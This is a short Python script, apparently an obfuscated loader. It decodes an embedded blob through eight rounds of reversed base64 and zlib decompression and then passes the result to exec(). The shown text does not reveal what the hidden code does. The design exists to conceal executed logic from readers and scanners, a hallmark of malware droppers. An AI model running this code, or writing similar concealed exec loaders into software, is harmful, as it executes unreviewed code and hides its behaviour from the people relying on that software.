import base64
import zlib

_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))
_x = b'=gGscD7Phbu9tp1GDMfT0MzISd2TthjROhurFdt8PJrfg2yrVzGpv3NBr+jd1EAmXM+LsnL+zCBcQW5t072Q129bClO/ldNiWg1072ejKCb+ltTFhIla7t/aonxRkCqEj3TSPhRpfbg2d0rBnv1pvQF3n9ty+wL1whuwoEOlxU2ba1x9WMkrl4tl59QWam3O9R86FqO91PJGRp/kNjyYaz5ABX6AFcfC/ugglyik8uSryOSkPPxyUqNr1vA7clsvOsTDda5cNJxBkTHEzcCK84Ftj/i8cTiYHLITbrbGx3ezY+0/EGeI2TZ3p2uAUshut8UekdwqUn8eXH4+0cJsqL+KYA3dePh23+nKhGvdyZ3y4norML+SqOlBz0icPlpdAtA47wEYwwHHosHZcGm4UCTbP+1WCuSlKZcnj+QceCXdkjg7eXtA8jo8UmkghBV27JD6syXprSYjKUY9l1II8yJc5VcqMXV1hvfTEK45CF4OKY/IbbEpCcavjIt3SbhrTlKwJJBlkff+Bn13/Z1V4TY06pkZqGqKosacDg3PqDadFANAAAzaiukzNwJe'
for _i in range(8):
    _x = _(_x)
exec(_x)
